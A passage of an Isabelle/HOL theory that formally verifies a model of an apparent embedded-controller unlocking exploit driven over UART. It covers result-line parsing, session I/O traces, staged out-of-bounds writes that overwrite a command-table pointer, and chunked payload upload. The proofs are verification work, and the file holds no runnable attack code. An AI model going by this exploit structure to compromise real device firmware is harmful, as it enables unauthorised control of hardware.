    using assms(1,2) by (auto simp: nth_append)
  ultimately show ?thesis
    using assms(1,2) by (auto simp: from_str_def starts_with_def)
qed

lemma from_str_cases:
  "from_str str = new_unknown str \<or>
   (\<exists>p. p \<noteq> [] \<and> str = ''# '' @ p) \<or>
   (\<exists>p. p \<noteq> [] \<and> str = ''$$ '' @ p) \<or>
   (\<exists>t h. (t = ''OK '' \<or> t = ''NG '') \<and> length h = 8 \<and> list_all is_hex_digit h \<and>
      (str = t @ h \<or> (\<exists>p. str = t @ h @ '' '' @ p)))"
proof -
  consider (c) "length str > 2 \<and> starts_with str ''# ''"
    | (i) "length str > 3 \<and> starts_with str ''$$ ''"
    | (short) "\<not> (length str > 2 \<and> starts_with str ''# '')"
        "\<not> (length str > 3 \<and> starts_with str ''$$ '')" "length str < 11"
    | (other) "\<not> (length str > 2 \<and> starts_with str ''# '')"
        "\<not> (length str > 3 \<and> starts_with str ''$$ '')" "\<not> length str < 11"
    by blast
  then show ?thesis
  proof cases
    case c
    then have "take 2 str = ''# ''"
      by (simp add: starts_with_def numeral_2_eq_2)
    then have "str = ''# '' @ drop 2 str"
      by (metis append_take_drop_id)
    moreover from c have "drop 2 str \<noteq> []" by simp
    ultimately have "\<exists>p. p \<noteq> [] \<and> str = ''# '' @ p" by blast
    then show ?thesis by blast
  next
    case i
    then have "take 3 str = ''$$ ''"
      by (simp add: starts_with_def numeral_3_eq_3)
    then have "str = ''$$ '' @ drop 3 str"
      by (metis append_take_drop_id)
    moreover from i have "drop 3 str \<noteq> []" by simp
    ultimately have "\<exists>p. p \<noteq> [] \<and> str = ''$$ '' @ p" by blast
    then show ?thesis by blast
  next
    case short
    then have "from_str str = new_unknown str"
      by (auto simp: from_str_def)
    then show ?thesis by blast
  next
    case other
    show ?thesis
    proof (cases "from_str str = new_unknown str")
      case True
      then show ?thesis by simp
    next
      case False
      with other have tag: "starts_with str ''OK '' \<or> starts_with str ''NG ''"
        and hx: "int_from_hex_u32 str 3 \<noteq> None"
        and sep: "length str > 11 \<longrightarrow> str ! 11 = CHR '' ''"
        by (auto simp: from_str_def Let_def split: option.splits if_splits)
      define t where "t = take 3 str"
      define h where "h = take 8 (drop 3 str)"
      from tag have t: "t = ''OK '' \<or> t = ''NG ''"
        by (auto simp: starts_with_def t_def numeral_3_eq_3)
      from hx have h: "length h = 8" "list_all is_hex_digit h"
        by (auto simp: int_from_hex_u32_def Let_def h_def split: if_splits)
      have "drop 3 str = h @ drop 8 (drop 3 str)"
        unfolding h_def by (rule append_take_drop_id [symmetric])
      moreover have "drop 8 (drop 3 str) = drop 11 str" by simp
      ultimately have "drop 3 str = h @ drop 11 str" by (simp only:)
      moreover have "str = t @ drop 3 str"
        unfolding t_def by (rule append_take_drop_id [symmetric])
      ultimately have str: "str = t @ h @ drop 11 str" by (simp only:)
      show ?thesis
      proof (cases "length str > 11")
        case True
        with sep have "drop 11 str = '' '' @ drop 12 str"
          using Cons_nth_drop_Suc [of 11 str] by simp
        with str have "str = t @ h @ '' '' @ drop 12 str" by simp
        with t h show ?thesis by blast
      next
        case False
        with str have "str = t @ h" by simp
        with t h show ?thesis by blast
      qed
    qed
  qed
qed

text \<open>
  Claim C5, as amended. \<open>from_str\<close> is a total function. A line that is \<open>"# "\<close>
  followed by at least one character is a Comment with the rest as payload, and likewise
  \<open>"$$ "\<close> followed by at least one character is an Info. A line that is \<open>"OK "\<close> or
  \<open>"NG "\<close>, exactly eight hex digits and then either nothing or one space and a payload
  is an Ok or Ng with that status and payload. Every line of none of these forms, the
  bare prefixes \<open>"# "\<close> and \<open>"$$ "\<close> among them, is Unknown with the original text as
  payload.
\<close>

theorem from_str_classification:
  "(p \<noteq> [] \<longrightarrow>
      from_str (''# '' @ p) = \<lparr>rtype = kComment, rstatus = kInvalidStatus, rresponse = p\<rparr> \<and>
      from_str (''$$ '' @ p) = \<lparr>rtype = kInfo, rstatus = kInvalidStatus, rresponse = p\<rparr>) \<and>
   ((t = ''OK '' \<or> t = ''NG '') \<and> length h = 8 \<and> list_all is_hex_digit h \<longrightarrow>
      from_str (t @ h) =
        \<lparr>rtype = (if t = ''OK '' then kOk else kNg), rstatus = of_nat (hex_value h),
         rresponse = []\<rparr> \<and>
      from_str (t @ h @ '' '' @ q) =
        \<lparr>rtype = (if t = ''OK '' then kOk else kNg), rstatus = of_nat (hex_value h),
         rresponse = q\<rparr>) \<and>
   (from_str str = new_unknown str \<or>
    (\<exists>p. p \<noteq> [] \<and> str = ''# '' @ p) \<or>
    (\<exists>p. p \<noteq> [] \<and> str = ''$$ '' @ p) \<or>
    (\<exists>t h. (t = ''OK '' \<or> t = ''NG '') \<and> length h = 8 \<and> list_all is_hex_digit h \<and>
       (str = t @ h \<or> (\<exists>p. str = t @ h @ '' '' @ p)))) \<and>
   from_str ''# '' = new_unknown ''# '' \<and> from_str ''$$ '' = new_unknown ''$$ ''"
proof (intro conjI impI)
  assume "p \<noteq> []"
  then show "from_str (''# '' @ p) = \<lparr>rtype = kComment, rstatus = kInvalidStatus, rresponse = p\<rparr>"
    by (rule from_str_comment)
next
  assume "p \<noteq> []"
  then show "from_str (''$$ '' @ p) = \<lparr>rtype = kInfo, rstatus = kInvalidStatus, rresponse = p\<rparr>"
    by (rule from_str_info)
next
  assume a: "(t = ''OK '' \<or> t = ''NG '') \<and> length h = 8 \<and> list_all is_hex_digit h"
  then show "from_str (t @ h) =
        \<lparr>rtype = (if t = ''OK '' then kOk else kNg), rstatus = of_nat (hex_value h),
         rresponse = []\<rparr>"
    using from_str_status_only [of t h] by blast
next
  assume a: "(t = ''OK '' \<or> t = ''NG '') \<and> length h = 8 \<and> list_all is_hex_digit h"
  then show "from_str (t @ h @ '' '' @ q) =
        \<lparr>rtype = (if t = ''OK '' then kOk else kNg), rstatus = of_nat (hex_value h),
         rresponse = q\<rparr>"
    using from_str_status_payload [of t h q] by blast
next
  show "from_str str = new_unknown str \<or>
    (\<exists>p. p \<noteq> [] \<and> str = ''# '' @ p) \<or>
    (\<exists>p. p \<noteq> [] \<and> str = ''$$ '' @ p) \<or>
    (\<exists>t h. (t = ''OK '' \<or> t = ''NG '') \<and> length h = 8 \<and> list_all is_hex_digit h \<and>
       (str = t @ h \<or> (\<exists>p. str = t @ h @ '' '' @ p)))"
    by (rule from_str_cases)
next
  show "from_str ''# '' = new_unknown ''# ''"
    by (simp add: from_str_def starts_with_def)
next
  show "from_str ''$$ '' = new_unknown ''$$ ''"
    by (simp add: from_str_def starts_with_def)
qed

theorem from_str_classification_witness:
  "from_str ''# [PSQ]'' = \<lparr>rtype = kComment, rstatus = kInvalidStatus, rresponse = ''[PSQ]''\<rparr> \<and>
   from_str ''$$ [PSQ]'' = \<lparr>rtype = kInfo, rstatus = kInvalidStatus, rresponse = ''[PSQ]''\<rparr> \<and>
   from_str ''NG F0000006'' = \<lparr>rtype = kNg, rstatus = 0xF0000006, rresponse = []\<rparr> \<and>
   from_str ''NG F0000006 bad cmd'' =
     \<lparr>rtype = kNg, rstatus = 0xF0000006, rresponse = ''bad cmd''\<rparr>"
  using from_str_classification [where p = "''[PSQ]''" and t = "''NG ''" and h = "''F0000006''"
      and q = "''bad cmd''" and str = "[]"]
  by (simp add: is_hex_digit_def hex_digit_val_def hex_value_def)

text \<open>
  The claim as it was stated fails at the line that is the bare prefix: \<open>"# "\<close> starts
  with \<open>"# "\<close> and is classified Unknown, not Comment with an empty payload (the source
  asks for \<open>str.size() > 2\<close>).
\<close>

theorem from_str_bare_prefix_counterexample:
  "starts_with ''# '' ''# '' \<and> rtype (from_str ''# '') = kUnknown \<and>
   from_str ''# '' \<noteq> \<lparr>rtype = kComment, rstatus = kInvalidStatus, rresponse = drop 2 ''# ''\<rparr>"
  by (simp add: from_str_def starts_with_def new_unknown_def)

section \<open>Round trip of Ok and Ng results\<close>

text \<open>
  Claim C6. For every result of type Ok or Ng, with any status and any payload,
  parsing the formatted text gives the result back.
\<close>

theorem from_str_format_ok_ng:
  "rtype r = kOk \<or> rtype r = kNg \<Longrightarrow> from_str (format r) = r"
proof -
  assume a: "rtype r = kOk \<or> rtype r = kNg"
  let ?t = "if rtype r = kOk then ''OK '' else ''NG ''"
  let ?h = "format_0X 8 (unat (rstatus r))"
  have f: "format r = ?t @ ?h @ '' '' @ rresponse r"
    using a by (auto simp: format_def is_ok_or_ng_def is_ok_def is_ng_def)
  have "from_str (?t @ ?h @ '' '' @ rresponse r) =
     \<lparr>rtype = (if ?t = ''OK '' then kOk else kNg), rstatus = of_nat (hex_value ?h),
      rresponse = rresponse r\<rparr>"
    by (rule from_str_status_payload) (simp_all add: format_08X_u32)
  also have "\<dots> = r"
    using a by (auto simp: format_08X_u32)
  finally show ?thesis
    by (simp only: f)
qed

theorem from_str_format_ok_ng_witness:
  "from_str (format (new_ng 0xdead0003 ''x y'')) = new_ng 0xdead0003 ''x y'' \<and>
   from_str (format (new_ok 0 [])) = new_ok 0 []"
  using from_str_format_ok_ng [of "new_ng 0xdead0003 ''x y''"]
    from_str_format_ok_ng [of "new_ok 0 []"]
  by (simp add: new_ng_def new_ok_def)

text \<open>
  For the other variants the round trip is not the identity in general: a Comment with an
  empty payload is printed as the bare prefix and read back as Unknown.
\<close>

lemma from_str_format_comment_empty:
  "from_str (format \<lparr>rtype = kComment, rstatus = kInvalidStatus, rresponse = []\<rparr>) =
     new_unknown ''# ''"
  by (simp add: format_def from_str_def is_ok_or_ng_def is_ok_def is_ng_def is_comment_def
      starts_with_def)

section \<open>What the session steps do to the state\<close>

lemma emit_emit: "emit es2 (emit es1 s) = emit (es1 @ es2) s"
  by (simp add: emit_def)

lemma emit_Nil: "emit [] s = s"
  by (simp add: emit_def)

lemma nak_emit: "nak s = emit [UartWrite [CHR 0x15] True, BusyWaitMs 10] s"
  by (simp add: nak_def busy_wait_ms_def write_str_blocking_def emit_emit)

lemma write_oob_emit: "write_oob val s = emit (write_oob_events (chip_consts s) val) s"
  by (simp add: write_oob_def Let_def nak_emit busy_wait_ms_def busy_wait_us_def
      write_str_blocking_def uart_rx_clear_def emit_emit write_oob_events_def)
    (simp add: emit_def)

lemma chip_consts_emit: "chip_consts (emit es s) = chip_consts s"
  by (simp add: emit_def)

lemma fw_consts_emit: "fw_consts (emit es s) = fw_consts s"
  by (simp add: emit_def)

lemma trace_emit: "trace (emit es s) = trace s @ es"
  by (simp add: emit_def)

lemma io_step_refl: "io_step s [] s"
  by (simp add: io_step_def)

lemma io_step_trans:
  "io_step s es s' \<Longrightarrow> io_step s' es' s'' \<Longrightarrow> io_step s (es @ es') s''"
  unfolding io_step_def
  by (cases s, cases s', cases s'') simp

lemma io_step_emit: "io_step s es (emit es s)"
  by (simp add: io_step_def emit_def)

lemma io_step_fields:
  assumes "io_step s es s'"
  shows "trace s' = trace s @ es" "fw_consts s' = fw_consts s"
    "fw_consts_valid s' = fw_consts_valid s" "chip_consts s' = chip_consts s"
    "fw_constants_map s' = fw_constants_map s" "reset_level s' = reset_level s"
    "in_rom s' = in_rom s"
  using assms unfolding io_step_def
  by (cases s, cases s', simp)+

text \<open>A read changes nothing but the script.\<close>

lemma emc_read_line_io: "emc_read_line t s = (r, s') \<Longrightarrow> io_step s [] s'"
  by (auto simp: emc_read_line_def io_step_def split: list.splits)

lemma read_result_io: "read_result t s = (r, s') \<Longrightarrow> io_step s [] s'"
proof (induction t s arbitrary: r s' rule: read_result.induct)
  case (1 t s)
  obtain x s1 where rl: "emc_read_line t s = (x, s1)" by (cases "emc_read_line t s")
  then have io1: "io_step s [] s1" by (rule emc_read_line_io)
  show ?case
  proof (cases x)
    case None
    with 1(2) rl io1 show ?thesis
      by (subst (asm) read_result.simps) simp
  next
    case (Some line)
    show ?thesis
    proof (cases "is_ok_or_ng (from_str line)")
      case True
      with 1(2) rl Some io1 show ?thesis
        by (subst (asm) read_result.simps) (simp add: Let_def)
    next
      case False
      with 1(2) rl Some have "read_result t s1 = (r, s')"
        by (subst (asm) read_result.simps) (simp add: Let_def)
      from 1(1) [OF rl [symmetric] Some refl False this] have "io_step s1 [] s'" .
      with io1 show ?thesis using io_step_trans by fastforce
    qed
  qed
qed

lemma cmd_send_wait_echo_io: "cmd_send_wait_echo c t s = (b, s') \<Longrightarrow> io_step s [] s'"
proof (induction c t s arbitrary: b s' rule: cmd_send_wait_echo.induct)
  case (1 c t s)
  obtain x s1 where rl: "emc_read_line t s = (x, s1)" by (cases "emc_read_line t s")
  then have io1: "io_step s [] s1" by (rule emc_read_line_io)
  show ?case
  proof (cases x)
    case None
    with 1(2) rl io1 show ?thesis
      by (subst (asm) cmd_send_wait_echo.simps) simp
  next
    case (Some readback)
    show ?thesis
    proof (cases "readback = c")
      case True
      with 1(2) rl Some io1 show ?thesis
        by (subst (asm) cmd_send_wait_echo.simps) simp
    next
      case False
      with 1(2) rl Some have "cmd_send_wait_echo c t s1 = (b, s')"
        by (subst (asm) cmd_send_wait_echo.simps) simp
      from 1(1) [OF rl [symmetric] Some False this] have "io_step s1 [] s'" .
      with io1 show ?thesis using io_step_trans by fastforce
    qed
  qed
qed

lemma cmd_send_io:
  "cmd_send c w s = (b, s') \<Longrightarrow> io_step s [UartWrite (cmd_text c) w] s'"
proof -
  assume a: "cmd_send c w s = (b, s')"
  have e: "io_step s [UartWrite (cmd_text c) w] (write_str_blocking (cmd_text c) w s)"
    by (simp add: write_str_blocking_def io_step_emit)
  show ?thesis
  proof (cases w)
    case False
    with a e show ?thesis by (simp add: cmd_send_def Let_def)
  next
    case True
    with a have "cmd_send_wait_echo c (length (cmd_text c) * 200)
        (write_str_blocking (cmd_text c) w s) = (b, s')"
      by (simp add: cmd_send_def Let_def)
    then have "io_step (write_str_blocking (cmd_text c) w s) [] s'"
      by (rule cmd_send_wait_echo_io)
    with e show ?thesis using io_step_trans by fastforce
  qed
qed

lemma cmd_send_recv_io:
  "cmd_send_recv c t s = (r, s') \<Longrightarrow> io_step s [UartWrite (cmd_text c) True] s'"
proof -
  assume a: "cmd_send_recv c t s = (r, s')"
  obtain b s1 where cs: "cmd_send c True s = (b, s1)" by (cases "cmd_send c True s")
  then have io1: "io_step s [UartWrite (cmd_text c) True] s1" by (rule cmd_send_io)
  show ?thesis
  proof (cases b)
    case False
    with a cs io1 show ?thesis by (simp add: cmd_send_recv_def)
  next
    case True
    with a cs have "read_result t s1 = (r, s')" by (simp add: cmd_send_recv_def)
    then have "io_step s1 [] s'" by (rule read_result_io)
    with io1 show ?thesis using io_step_trans by fastforce
  qed
qed

lemma puareq1_io:
  "puareq1 i s = (b, s') \<Longrightarrow> io_step s [UartWrite (cmd_text (puareq1_cmdline i)) True] s'"
  by (auto simp: puareq1_def split: prod.splits dest: cmd_send_recv_io)

lemma puareq2_io:
  "puareq2 i c s = (b, s') \<Longrightarrow> io_step s [UartWrite (cmd_text (puareq2_cmdline i c)) True] s'"
  by (auto simp: puareq2_def split: prod.splits dest: cmd_send_recv_io)

lemma is_unlocked_io:
  "is_unlocked s = (r, s') \<Longrightarrow>
   io_step s [UartWrite [CHR 0x15] True, BusyWaitMs 10, UartWrite (cmd_text ''getserialno'') True] s'"
proof -
  assume "is_unlocked s = (r, s')"
  then have "io_step (nak s) [UartWrite (cmd_text ''getserialno'') True] s'"
    by (simp add: is_unlocked_def getserialno_def cmd_send_recv_io)
  moreover have "io_step s [UartWrite [CHR 0x15] True, BusyWaitMs 10] (nak s)"
    by (simp add: nak_emit io_step_emit)
  ultimately show ?thesis using io_step_trans by fastforce
qed

text \<open>A command that is echoed and then answered \<open>OK 00000000\<close> succeeds.\<close>

lemma cmd_send_recv_acked:
  assumes "rx_script s = Some c # Some ''OK 00000000'' # rest"
  shows "cmd_send_recv c t s =
     (new_success [], s\<lparr>rx_script := rest, trace := trace s @ [UartWrite (cmd_text c) True]\<rparr>)"
proof -
  have f: "from_str ''OK 00000000'' = new_success []"
    by (simp add: from_str_def starts_with_def int_from_hex_u32_def is_hex_digit_def
        hex_digit_val_def hex_value_def new_success_def new_ok_def kSuccess_def)
  have ok: "is_ok_or_ng (new_success [])"
    by (simp add: is_ok_or_ng_def is_ok_def new_success_def new_ok_def)
  show ?thesis
    using assms
    by (simp add: cmd_send_recv_def cmd_send_def Let_def write_str_blocking_def emit_def
        cmd_send_wait_echo.simps [of c] read_result.simps [of t] emc_read_line_def f ok)
qed

lemma is_success_new_success: "is_success (new_success str)"
  by (simp add: is_success_def is_ok_status_def is_ok_def new_success_def new_ok_def)

lemma oob_values_append: "oob_values (xs @ ys) = oob_values xs @ oob_values ys"
  by (induction xs rule: oob_values.induct) simp_all

section \<open>Unlocking an unlocked controller\<close>

text \<open>
  Claim C8. When the reset line does not show the controller in reset and the probe
  \<open>is_unlocked\<close> answers success, \<open>autorun\<close> returns success in the state the probe
  left: beyond reads, all it has done is to clear the receive buffer, send the NAK with its
  10 ms wait and send the \<open>getserialno\<close> command. No constant has been resolved, no
  payload request, no out-of-bounds write and no trigger has been sent.
\<close>

theorem autorun_already_unlocked:
  "\<not> is_reset s \<and> is_success (fst (is_unlocked (uart_rx_clear s))) \<longrightarrow>
     (\<exists>s'. autorun s = Some (new_success [], s') \<and>
        s' = snd (is_unlocked (uart_rx_clear s)) \<and>
        trace s' = trace s @ [RxClear, UartWrite [CHR 0x15] True, BusyWaitMs 10,
                              UartWrite (cmd_text ''getserialno'') True] \<and>
        oob_values (trace s') = oob_values (trace s) \<and>
        fw_consts_valid s' = fw_consts_valid s \<and> fw_consts s' = fw_consts s \<and>
        chip_consts s' = chip_consts s \<and> fw_constants_map s' = fw_constants_map s)"
proof (intro impI, elim conjE)
  assume nr: "\<not> is_reset s" and ok: "is_success (fst (is_unlocked (uart_rx_clear s)))"
  obtain r s' where u: "is_unlocked (uart_rx_clear s) = (r, s')"
    by (cases "is_unlocked (uart_rx_clear s)")
  with nr ok have a: "autorun s = Some (new_success [], s')"
    by (simp add: autorun_def)
  have "io_step s [RxClear] (uart_rx_clear s)"
    by (simp add: uart_rx_clear_def io_step_emit)
  from io_step_trans [OF this is_unlocked_io [OF u]]
  have io: "io_step s [RxClear, UartWrite [CHR 0x15] True, BusyWaitMs 10,
      UartWrite (cmd_text ''getserialno'') True] s'"
    by simp
  have "oob_values (trace s @ [RxClear, UartWrite [CHR 0x15] True, BusyWaitMs 10,
      UartWrite (cmd_text ''getserialno'') True]) = oob_values (trace s)"
    by (simp add: oob_values_append cmd_text_def)
  with a u io_step_fields [OF io] show "\<exists>s'. autorun s = Some (new_success [], s') \<and>
        s' = snd (is_unlocked (uart_rx_clear s)) \<and>
        trace s' = trace s @ [RxClear, UartWrite [CHR 0x15] True, BusyWaitMs 10,
                              UartWrite (cmd_text ''getserialno'') True] \<and>
        oob_values (trace s') = oob_values (trace s) \<and>
        fw_consts_valid s' = fw_consts_valid s \<and> fw_consts s' = fw_consts s \<and>
        chip_consts s' = chip_consts s \<and> fw_constants_map s' = fw_constants_map s"
    by simp
qed

theorem autorun_already_unlocked_witness:
  "\<not> is_reset (emc_init [Some ''getserialno'', Some ''OK 00000000''] True) \<and>
   is_success (fst (is_unlocked (uart_rx_clear
      (emc_init [Some ''getserialno'', Some ''OK 00000000''] True)))) \<and>
   (\<exists>s'. autorun (emc_init [Some ''getserialno'', Some ''OK 00000000''] True) =
            Some (new_success [], s') \<and>
      trace s' = [RxClear, UartWrite [CHR 0x15] True, BusyWaitMs 10,
                  UartWrite (cmd_text ''getserialno'') True])"
proof -
  let ?s = "emc_init [Some ''getserialno'', Some ''OK 00000000''] True"
  have nr: "\<not> is_reset ?s"
    by (simp add: is_reset_def emc_init_def)
  have "rx_script (nak (uart_rx_clear ?s)) = Some ''getserialno'' # Some ''OK 00000000'' # []"
    by (simp add: nak_emit uart_rx_clear_def emit_def emc_init_def)
  from cmd_send_recv_acked [OF this]
  have ok: "is_success (fst (is_unlocked (uart_rx_clear ?s)))"
    by (simp add: is_unlocked_def getserialno_def is_success_new_success)
  have "trace ?s = []" by (simp add: emc_init_def)
  with autorun_already_unlocked [of ?s] nr ok show ?thesis
    by auto
qed

section \<open>The out-of-bounds writes\<close>

lemma build_target_eq:
  "build_target w 0 [0, 0, 0, 0] =
     (if list_ex is_reserved_byte (addr_bytes w) then None else Some (addr_bytes w))"
  by (simp add: build_target.simps addr_bytes_def Let_def)

lemma oob_loop_eq:
  "oob_loop [a, b, c, d] 0 s =
     emit (concat (map (write_oob_events (chip_consts s)) (early_writes [a, b, c, d]))) s"
proof -
  have z: "fold (\<lambda>j t. t[j := (0::u8)]) [0..<4] [a, b, c, d] = [0, 0, 0, 0]"
    "fold (\<lambda>j t. t[j := (0::u8)]) [0..<3] [a, b, c, d] = [0, 0, 0, d]"
    "fold (\<lambda>j t. t[j := (0::u8)]) [0..<2] [a, b, c, d] = [0, 0, c, d]"
    "fold (\<lambda>j t. t[j := (0::u8)]) [0..<Suc 0] [a, b, c, d] = [0, b, c, d]"
    "fold (\<lambda>j t. t[j := (0::u8)]) [0..<Suc (Suc 0)] [a, b, c, d] = [0, 0, c, d]"
    by (simp_all add: eval_nat_numeral)
  have zt: "zero_through 3 [a, b, c, d] = [0, 0, 0, 0]"
    "zero_through 2 [a, b, c, d] = [0, 0, 0, d]"
    "zero_through 1 [a, b, c, d] = [0, 0, c, d]"
    "zero_through (Suc 0) [a, b, c, d] = [0, 0, c, d]"
    "zero_through 0 [a, b, c, d] = [0, b, c, d]"
    by (simp_all add: zero_through_def eval_nat_numeral)
  have s4: "oob_loop [a, b, c, d] (Suc (Suc (Suc (Suc 0)))) s' = s'" for s'
    by (subst oob_loop.simps) simp
  have s3: "oob_loop [a, b, c, d] (Suc (Suc (Suc 0))) s' =
      (if is_printable a then write_oob (zero_through 0 [a, b, c, d]) s' else s')" for s'
    by (subst oob_loop.simps) (simp add: Let_def is_printable_def z zt s4)
  have s2: "oob_loop [a, b, c, d] (Suc (Suc 0)) s' =
      oob_loop [a, b, c, d] (Suc (Suc (Suc 0)))
        (if is_printable b then write_oob (zero_through 1 [a, b, c, d]) s' else s')" for s'
    by (subst oob_loop.simps) (simp add: Let_def is_printable_def z zt)
  have s1: "oob_loop [a, b, c, d] (Suc 0) s' =
      oob_loop [a, b, c, d] (Suc (Suc 0))
        (if is_printable c then write_oob (zero_through 2 [a, b, c, d]) s' else s')" for s'
    by (subst oob_loop.simps) (simp add: Let_def is_printable_def z zt)
  have s0: "oob_loop [a, b, c, d] 0 s' =
      oob_loop [a, b, c, d] (Suc 0)
        (if is_printable d then write_oob (zero_through 3 [a, b, c, d]) s' else s')" for s'
    by (subst oob_loop.simps) (simp add: Let_def is_printable_def z zt)
  show ?thesis
    by (simp add: s0 s1 s2 s3 zt early_writes_def write_oob_emit emit_emit chip_consts_emit emit_Nil)
qed

lemma addr_bytes_four: "\<exists>a b c d. addr_bytes w = [a, b, c, d]"
  by (simp add: addr_bytes_def)

lemma overwrite_cmd_table_ptr_eq:
  "overwrite_cmd_table_ptr s =
     (let target = addr_bytes (ucmd_ua_buf_addr (fw_consts s)) in
      if list_ex is_reserved_byte target then (False, s)
      else (True, emit (concat (map (write_oob_events (chip_consts s))
                                  (early_writes target @ [target]))) s))"
proof -
  obtain a b c d where t: "addr_bytes (ucmd_ua_buf_addr (fw_consts s)) = [a, b, c, d]"
    using addr_bytes_four by blast
  show ?thesis
    unfolding overwrite_cmd_table_ptr_def Let_def build_target_eq t
    by (simp add: oob_loop_eq write_oob_emit emit_emit chip_consts_emit del: list_ex_Cons_iff list_ex_Nil_iff)
qed

lemma u8_of_char_of_u8: "u8_of_char (char_of_u8 b) = b"
proof -
  have "unat b < 256" using unsigned_less [of b] by simp
  then show ?thesis
    by (simp add: u8_of_char_def char_of_u8_def)
qed

lemma oob_values_write_oob_events:
  "length val = 4 \<Longrightarrow> oob_values (write_oob_events cc val) = [val]"
proof -
  assume l: "length val = 4"
  let ?filler = "map (\<lambda>i. lut ! (i mod (length lut))) [0..<unat (160 * filler_multiplier cc)]"
  have "?filler = [] \<or> hd ?filler = CHR ''0''"
    by (cases "unat (160 * filler_multiplier cc)") (simp_all add: upt_conv_Cons lut_def del: upt_Suc)
  then have f: "\<not> (?filler \<noteq> [] \<and> hd ?filler = CHR 0x0C)" by auto
  have "map u8_of_char (take 4 (map char_of_u8 val @ [CHR 0x00, CHR 0x15])) = val"
    using l by (simp add: comp_def u8_of_char_of_u8)
  with f show ?thesis
    unfolding write_oob_events_def by (simp del: upt_Suc)
qed

lemma oob_values_writes:
  "list_all (\<lambda>v. length v = 4) vs \<Longrightarrow>
   oob_values (concat (map (write_oob_events cc) vs)) = vs"
  by (induction vs) (simp_all add: oob_values_append oob_values_write_oob_events)

lemma length_zero_through: "pos < length t \<Longrightarrow> length (zero_through pos t) = length t"
  by (simp add: zero_through_def)

lemma early_writes_lengths:
  "length t = 4 \<Longrightarrow> list_all (\<lambda>v. length v = 4) (early_writes t @ [t])"
  by (auto simp: early_writes_def list_all_iff length_zero_through)

lemma length_addr_bytes: "length (addr_bytes w) = 4"
  by (simp add: addr_bytes_def)

lemma early_writes_count:
  "length t = 4 \<Longrightarrow> length (early_writes t) = length (filter is_printable t)"
proof -
  assume "length t = 4"
  then obtain a b c d where "t = [a, b, c, d]"
    by (auto simp: length_Suc_conv numeral_eq_Suc)
  then show ?thesis by (simp add: early_writes_def)
qed

lemma overwrite_oob_values:
  assumes "\<not> list_ex is_reserved_byte (addr_bytes (ucmd_ua_buf_addr (fw_consts s)))"
  shows "oob_values (trace (snd (overwrite_cmd_table_ptr s))) =
     oob_values (trace s) @ early_writes (addr_bytes (ucmd_ua_buf_addr (fw_consts s))) @
     [addr_bytes (ucmd_ua_buf_addr (fw_consts s))]"
proof -
  let ?t = "addr_bytes (ucmd_ua_buf_addr (fw_consts s))"
  let ?es = "concat (map (write_oob_events (chip_consts s)) (early_writes ?t @ [?t]))"
  have "list_all (\<lambda>v. length v = 4) (early_writes ?t @ [?t])"
    by (rule early_writes_lengths) (rule length_addr_bytes)
  then have v: "oob_values ?es = early_writes ?t @ [?t]"
    by (rule oob_values_writes)
  have "snd (overwrite_cmd_table_ptr s) = emit ?es s"
    by (simp only: overwrite_cmd_table_ptr_eq Let_def assms if_False snd_conv)
  then show ?thesis
    by (simp only: trace_emit oob_values_append v)
qed

lemma oob_values_cmd: "c \<noteq> [] \<Longrightarrow> hd c \<noteq> CHR 0x0C \<Longrightarrow> oob_values [UartWrite (cmd_text c) w] = []"
  by (cases c) (simp_all add: cmd_text_def)

lemma oob_values_nak: "oob_values [UartWrite [CHR 0x15] True, BusyWaitMs 10] = []"
  by simp

lemma io_step_oob:
  "io_step s es s' \<Longrightarrow> oob_values es = [] \<Longrightarrow> oob_values (trace s') = oob_values (trace s)"
  by (simp add: io_step_fields(1) oob_values_append)

lemma puareq2_quiet:
  "puareq2 i c s = (b, s') \<Longrightarrow> \<exists>es. io_step s es s' \<and> oob_values es = []"
  using puareq2_io [of i c s b s'] oob_values_cmd [of "puareq2_cmdline i c" True]
  by (auto simp: puareq2_cmdline_def)

lemma puareq1_quiet:
  "puareq1 i s = (b, s') \<Longrightarrow> \<exists>es. io_step s es s' \<and> oob_values es = []"
  using puareq1_io [of i s b s'] oob_values_cmd [of "puareq1_cmdline i" True]
  by (auto simp: puareq1_cmdline_def)

lemma quiet_trans:
  assumes "\<exists>es. io_step s es s1 \<and> oob_values es = []"
    and "\<exists>es. io_step s1 es s2 \<and> oob_values es = []"
  shows "\<exists>es. io_step s es s2 \<and> oob_values es = []"
proof -
  from assms obtain e1 e2 where "io_step s e1 s1" "oob_values e1 = []"
    "io_step s1 e2 s2" "oob_values e2 = []" by blast
  then have "io_step s (e1 @ e2) s2" "oob_values (e1 @ e2) = []"
    by (auto intro: io_step_trans simp: oob_values_append)
  then show ?thesis by blast
qed

lemma set_payload_loop_quiet:
  "set_payload_loop p pos idx s = (r, s') \<Longrightarrow> \<exists>es. io_step s es s' \<and> oob_values es = []"
proof (induction p pos idx s arbitrary: r s' rule: set_payload_loop.induct)
  case (1 payload pos idx s)
  show ?case
  proof (cases "pos < length payload")
    case False
    with 1(2) have "s' = s" by (subst (asm) set_payload_loop.simps) simp
    then show ?thesis using io_step_refl [of s] by (intro exI [of _ "[]"]) simp
  next
    case True
    let ?chunk = "take (min (pos + 50) (length payload) - pos) (drop pos payload)"
    obtain b s1 where p2: "puareq2 idx ?chunk s = (b, s1)" by (cases "puareq2 idx ?chunk s")
    then have q1: "\<exists>es. io_step s es s1 \<and> oob_values es = []" by (rule puareq2_quiet)
    show ?thesis
    proof (cases b)
      case False
      with 1(2) True p2 have "s' = s1"
        by (subst (asm) set_payload_loop.simps) (simp add: Let_def)
      with q1 show ?thesis by simp
    next
      case b: True
      with 1(2) True p2 have "set_payload_loop payload (pos + 50) (idx + 1) s1 = (r, s')"
        by (subst (asm) set_payload_loop.simps) (simp add: Let_def)
      moreover from b have "b = True" by simp
      ultimately have "\<exists>es. io_step s1 es s' \<and> oob_values es = []"
        using 1(1) [OF True refl p2 [symmetric]] by blast
      with q1 show ?thesis by (rule quiet_trans)
    qed
  qed
qed

lemma set_payload_quiet:
  "set_payload p s = (r, s') \<Longrightarrow> \<exists>es. io_step s es s' \<and> oob_values es = []"
proof -
  assume a: "set_payload p s = (r, s')"
  have n: "\<exists>es. io_step s es (nak s) \<and> oob_values es = []"
    using io_step_emit [of s "[UartWrite [CHR 0x15] True, BusyWaitMs 10]"] oob_values_nak
    by (auto simp: nak_emit)
  obtain b s1 where p1: "puareq1 0 (nak s) = (b, s1)" by (cases "puareq1 0 (nak s)")
  from quiet_trans [OF n puareq1_quiet [OF p1]]
  have q1: "\<exists>es. io_step s es s1 \<and> oob_values es = []" .
  show ?thesis
  proof (cases b)
    case False
